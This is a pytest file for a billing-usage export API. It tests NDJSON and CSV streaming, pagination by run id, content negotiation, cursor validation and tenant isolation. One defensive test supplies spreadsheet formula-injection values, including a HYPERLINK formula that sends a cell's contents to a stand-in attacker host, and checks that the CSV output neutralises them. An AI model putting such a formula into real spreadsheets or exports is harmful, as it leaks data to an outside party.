"""Billing export: `/admin/usage/records` and `/v1/usage/records`, NDJSON or CSV, by run id."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from typing import Any

import httpx
import pytest

from gateway.core.db import Database
from tenants.usage import export
from tests.tenants.conftest import IssueKey, MakeTenant
from tests.tenants.test_admin_usage import add, record


def lines(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/x-ndjson")
    return [json.loads(line) for line in response.text.splitlines()]


async def test_admin_export_streams_every_record_in_run_id_order_across_pages(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    db: Database,
    make_tenant: MakeTenant,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(export, "PAGE_SIZE", 3)  # 10 records: four pages, the last one short
    a, b = (await make_tenant())["id"], (await make_tenant())["id"]
    day = date(2026, 3, 2)
    records = [record(a if i % 2 else b, day, input_tokens=i) for i in range(10)]
    outside = record(a, date(2026, 3, 3))
    await add(db, *reversed(records), outside)

    params = {"start": "2026-03-01", "end": "2026-03-02"}
    rows = lines(await client.get("/admin/usage/records", params=params, headers=admin_headers))
    assert [row["run_id"] for row in rows] == sorted(r.run_id for r in records)
    assert rows[0] == {
        "run_id": records[0].run_id,
        "segment": 0,
        "tenant_id": b,
        "key_id": "key_a",
        "user": None,
        "agent": "bot",
        "agent_version": 1,
        "model": "gpt-4.1-mini",
        "requests": 1,
        "input_tokens": 0,
        "output_tokens": 5,
        "cached_tokens": 0,
        "reasoning_tokens": 0,
        "total_tokens": 15,
        "status": "completed",
        "latency_ms": 100,
        "cost_usd": "0",
        "unpriced": True,
        "day": "2026-03-02",
        "created_at": rows[0]["created_at"],
        "model_usage": None,  # every call went to `model`
    }
    assert rows[0]["created_at"] == "2026-03-02T12:00:00.000Z"  # RFC 3339 UTC, as the API

    only_a = lines(
        await client.get(
            "/admin/usage/records", params={**params, "tenant_id": a}, headers=admin_headers
        )
    )
    assert [row["run_id"] for row in only_a] == sorted(r.run_id for r in records[1::2])

    # The cursor resumes right after the last run id received.
    resumed = lines(
        await client.get(
            "/admin/usage/records",
            params={**params, "after": rows[4]["run_id"]},
            headers=admin_headers,
        )
    )
    assert resumed == rows[5:]


async def test_csv_export_when_asked_by_accept(
    client: httpx.AsyncClient, admin_headers: dict[str, str], db: Database, make_tenant: MakeTenant
) -> None:
    tenant = (await make_tenant())["id"]
    day = date(2026, 4, 1)
    first, second = record(tenant, day, user='alice, "the" user'), record(tenant, day)
    await add(db, first, second)
    response = await client.get(
        "/admin/usage/records",
        params={"start": "2026-04-01", "end": "2026-04-01", "tenant_id": tenant},
        headers={**admin_headers, "accept": "text/csv"},
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(response.text)))
    assert list(table[0]) == list(export.FIELDS)
    assert [row["run_id"] for row in table] == [first.run_id, second.run_id]
    assert table[0]["user"] == 'alice, "the" user' and table[1]["user"] == ""
    assert table[0]["total_tokens"] == "15" and table[0]["day"] == "2026-04-01"
    assert table[0]["created_at"].endswith("Z")


async def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(
    client: httpx.AsyncClient, admin_headers: dict[str, str], db: Database, make_tenant: MakeTenant
) -> None:
    """An end user chooses their JWT `sub`: `=HYPERLINK(…)` must not be a live formula in the
    finance team's spreadsheet. NDJSON keeps the value as recorded."""
    tenant = (await make_tenant())["id"]
    day = date(2026, 4, 2)
    users = ['=HYPERLINK("https://evil.example/?"&A1)', "+1", "-2+3", "@SUM(1)", "al=ice"]
    rows = [record(tenant, day, user=user) for user in users]
    await add(db, *rows)
    params = {"start": "2026-04-02", "end": "2026-04-02", "tenant_id": tenant}
    response = await client.get(
        "/admin/usage/records", params=params, headers={**admin_headers, "accept": "text/csv"}
    )
    table = {row["run_id"]: row["user"] for row in csv.DictReader(io.StringIO(response.text))}
    assert [table[row.run_id] for row in rows] == [*("'" + u for u in users[:4]), "al=ice"]
    ndjson = await client.get("/admin/usage/records", params=params, headers=admin_headers)
    assert {line["run_id"]: line["user"] for line in lines(ndjson)} == {
        row.run_id: row.user for row in rows
    }

    # The client's preference decides (q-values); a tie, or anything else, is NDJSON.
    for accept, kind in [
        ("text/csv;q=0", "application/x-ndjson"),
        ("text/csv;q=0.1, application/x-ndjson;q=0.9", "application/x-ndjson"),
        ("application/x-ndjson, text/csv", "application/x-ndjson"),
        ("application/x-ndjson;q=0.5, text/csv", "text/csv"),
        ("*/*", "application/x-ndjson"),
    ]:
        response = await client.get(
            "/admin/usage/records",
            params={"start": "2026-04-01", "end": "2026-04-01", "tenant_id": tenant},
            headers={**admin_headers, "accept": accept},
        )
        assert response.headers["content-type"].startswith(kind), accept


async def test_admin_export_of_an_unknown_tenant_is_not_found(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    # Not a run id (or `<run id>:<segment>`): 422, never everything.
    for cursor in ("garbage", "key_abc", "", "run_x y", "run_x:", "run_x:a", "run_x:1:2"):
        r = await client.get(
            "/admin/usage/records", params={"after": cursor}, headers=admin_headers
        )
        assert r.status_code == 422, (cursor, r.text)
        assert r.json()["error"]["param"] == "after"
    response = await client.get(
        "/admin/usage/records", params={"tenant_id": "ten_nope"}, headers=admin_headers
    )
    assert response.status_code == 404
    bad = await client.get(
        "/admin/usage/records", params={"start": "2026-05-02", "end": "2026-05-01"},
        headers=admin_headers,
    )  # fmt: skip
    assert bad.status_code == 422


async def test_tenant_export_holds_only_its_own_records(
    client: httpx.AsyncClient,
    db: Database,
    make_tenant: MakeTenant,
    issue_key: IssueKey,
) -> None:
    a, b = (await make_tenant())["id"], (await make_tenant())["id"]
    day = date(2026, 5, 1)
    mine, theirs = record(a, day), record(b, day)
    await add(db, mine, theirs)
    key = (await issue_key(a))["key"]
    params = {"start": "2026-05-01", "end": "2026-05-01"}
    headers = {"authorization": f"Bearer {key}"}
    rows = lines(await client.get("/v1/usage/records", params=params, headers=headers))
    assert [row["run_id"] for row in rows] == [mine.run_id]
    # A tenant cannot widen its export to another tenant.
    widened = await client.get(
        "/v1/usage/records", params={**params, "tenant_id": b}, headers=headers
    )
    assert [row["run_id"] for row in lines(widened)] == [mine.run_id]
    no_scope = (await issue_key(a, scopes=["runs"]))["key"]
    denied = await client.get(
        "/v1/usage/records", params=params, headers={"authorization": f"Bearer {no_scope}"}
    )
    assert denied.status_code == 403
